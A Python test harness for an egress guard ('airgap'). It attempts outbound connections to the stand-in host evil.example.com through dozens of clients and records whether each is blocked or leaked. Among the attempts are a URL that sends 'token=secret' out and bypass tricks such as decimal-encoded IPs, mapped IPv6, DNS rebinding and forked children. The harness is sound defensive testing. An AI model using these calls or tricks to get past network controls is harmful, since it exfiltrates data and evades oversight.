"""Every way that a Python client here could leave, tried one by one: `python -m tests.egress.clients [--off]`.

Prints one JSON line a client: {"client", "outcome": "blocked" | "leaked" | "error" | "absent", "error"}. With --off the guard is
not installed. Run by tests/egress/lab.py inside a network namespace of its own; never run it elsewhere.
"""

import _socket
import asyncio
import http.client
import json
import os
import smtplib
import socket
import sys
import tempfile
import threading
import urllib.request
from collections.abc import Callable
from pathlib import Path
from socket import getaddrinfo as early_getaddrinfo
from typing import Any

from airgap import guard
from airgap.blocked import AirgapBlocked
from airgap.events import Layer
from airgap.policy import Decision, EgressPolicy, Rule

NAME = "evil.example.com"
LITERAL = "93.184.216.34"  # stands for any public address; in the namespace it is a sink
LITERAL6 = "2606:2800:220:1::34"
PRIVATE_LOOK = "rebind.internal"  # the namespace's DNS answers it with LITERAL


def udp() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def httpx_sync(url: str) -> Any:
    import httpx

    return httpx.get(url, timeout=2)


def httpx_async(url: str) -> Any:
    import httpx

    async def go() -> None:
        async with httpx.AsyncClient(timeout=2) as client:
            await client.get(url)

    return asyncio.run(go())


def by_requests(url: str) -> Any:
    import requests

    return requests.get(url, timeout=2)


def by_urllib3(url: str) -> Any:
    import urllib3

    return urllib3.PoolManager().request("GET", url, timeout=2, retries=2)


def by_redis(host: str) -> Any:
    import redis

    return redis.Redis(host=host, socket_connect_timeout=2).ping()


def by_aiohttp(url: str) -> Any:
    import aiohttp

    async def go() -> None:
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(2)) as session:
            await session.get(url)

    return asyncio.run(go())


def by_openai(base: str) -> Any:
    import openai

    client = openai.OpenAI(base_url=base, api_key="planted", max_retries=1, timeout=2)
    return client.chat.completions.create(model="m", messages=[{"role": "user", "content": "x"}])


def stream(host: str) -> Any:
    return asyncio.run(asyncio.wait_for(asyncio.open_connection(host, 443), 2))


def datagram(host: str) -> Any:
    async def go() -> None:
        await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(host, 53))

    return asyncio.run(go())


def in_thread() -> Any:
    caught: list[BaseException] = []

    def go() -> None:
        try:
            socket.create_connection((NAME, 443), 2)
        except BaseException as error:
            caught.append(error)

    thread = threading.Thread(target=go)
    thread.start()
    thread.join()
    raise caught[0]


def in_fork() -> Any:
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            socket.create_connection((NAME, 443), 2)
        except BaseException as error:
            os.write(write, type(error).__name__.encode())
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(write)
    name = os.read(read, 100).decode()
    os.close(read)
    if name == "AirgapBlocked":
        raise AirgapBlocked(Decision(False, Rule.PUBLIC, "in the child"), host=NAME, port=443, layer=Layer.DNS)
    return name


CLIENTS: dict[str, Callable[[], Any]] = {
    "socket.getaddrinfo": lambda: socket.getaddrinfo(NAME, 443),
    "early-bound getaddrinfo": lambda: early_getaddrinfo(NAME, 443),
    "gethostbyname": lambda: socket.gethostbyname(NAME),
    "gethostbyname_ex": lambda: socket.gethostbyname_ex(NAME),
    "gethostbyaddr name": lambda: socket.gethostbyaddr(NAME),
    "gethostbyaddr literal": lambda: socket.gethostbyaddr(LITERAL),
    "getnameinfo": lambda: socket.getnameinfo((LITERAL, 443), 0),
    "connect name": lambda: socket.socket().connect((NAME, 443)),
    "connect bytes": lambda: socket.socket().connect((NAME.encode(), 443)),
    "connect literal": lambda: socket.socket().connect((LITERAL, 443)),
    "connect literal v6": lambda: socket.socket(socket.AF_INET6).connect((LITERAL6, 443)),
    "connect mapped": lambda: socket.socket(socket.AF_INET6).connect((f"::ffff:{LITERAL}", 443)),
    "connect number": lambda: socket.socket().connect(("1572395042", 443)),  # LITERAL in one number
    "private name, public answer": lambda: socket.create_connection((PRIVATE_LOOK, 443), 2),
    "httpx, private name, public answer": lambda: httpx_sync(f"http://{PRIVATE_LOOK}/"),
    "connect_ex name": lambda: socket.socket().connect_ex((NAME, 443)),
    "connect_ex literal": lambda: socket.socket().connect_ex((LITERAL, 443)),
    "sendto name": lambda: udp().sendto(b"x", (NAME, 53)),
    "sendto literal with flags": lambda: udp().sendto(b"x", 0, (LITERAL, 53)),
    "sendmsg name": lambda: udp().sendmsg([b"x"], [], 0, (NAME, 53)),
    "sendmsg literal": lambda: udp().sendmsg([b"x"], [], 0, (LITERAL, 53)),
    "udp connect": lambda: udp().connect((LITERAL, 80)),
    "raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "the C type itself, literal": lambda: _socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect((LITERAL, 443)),
    "create_connection": lambda: socket.create_connection((NAME, 443), 2),
    "urllib name": lambda: urllib.request.urlopen(f"https://{NAME}/x?token=secret", timeout=2),
    "urllib literal": lambda: urllib.request.urlopen(f"http://{LITERAL}/", timeout=2),
    "http.client": lambda: http.client.HTTPSConnection(NAME, timeout=2).request("GET", "/"),
    "smtplib": lambda: smtplib.SMTP(NAME, 25, timeout=2),
    "requests": lambda: by_requests(f"https://{NAME}/"),
    "urllib3": lambda: by_urllib3(f"https://{NAME}/"),
    "urllib3 literal": lambda: by_urllib3(f"http://{LITERAL}/"),
    "httpx": lambda: httpx_sync(f"https://{NAME}/"),
    "httpx literal": lambda: httpx_sync(f"http://{LITERAL}/"),
    "httpx async": lambda: httpx_async(f"https://{NAME}/"),
    "httpx async literal": lambda: httpx_async(f"http://{LITERAL}/"),
    "aiohttp": lambda: by_aiohttp(f"https://{NAME}/"),
    "aiohttp literal": lambda: by_aiohttp(f"http://{LITERAL}/"),
    "openai": lambda: by_openai(f"https://{NAME}/v1"),
    "redis": lambda: by_redis(NAME),
    "asyncio stream": lambda: stream(NAME),
    "asyncio stream literal": lambda: stream(LITERAL),
    "asyncio datagram": lambda: datagram(NAME),
    "thread": in_thread,
    "fork": in_fork,
}


def tried(name: str, call: Callable[[], Any]) -> dict[str, Any]:
    def is_blocked(error: BaseException | None) -> bool:
        while error is not None:
            if isinstance(error, AirgapBlocked):
                return True
            if isinstance(error, BaseExceptionGroup):
                return any(is_blocked(inner) for inner in error.exceptions)
            error = error.__cause__ or error.__context__
        return False

    try:
        call()
    except ImportError as error:
        return {"client": name, "outcome": "absent", "error": str(error)}
    except BaseException as error:
        return {"client": name, "outcome": "blocked" if is_blocked(error) else "error", "error": type(error).__name__}
    return {"client": name, "outcome": "leaked", "error": ""}


def main() -> None:
    if "--off" not in sys.argv:
        guard.install(EgressPolicy.from_text("1", ""), Path(tempfile.mkdtemp(prefix="guard-")))
    for name, call in CLIENTS.items():
        print(json.dumps(tried(name, call)), flush=True)


if __name__ == "__main__":
    main()
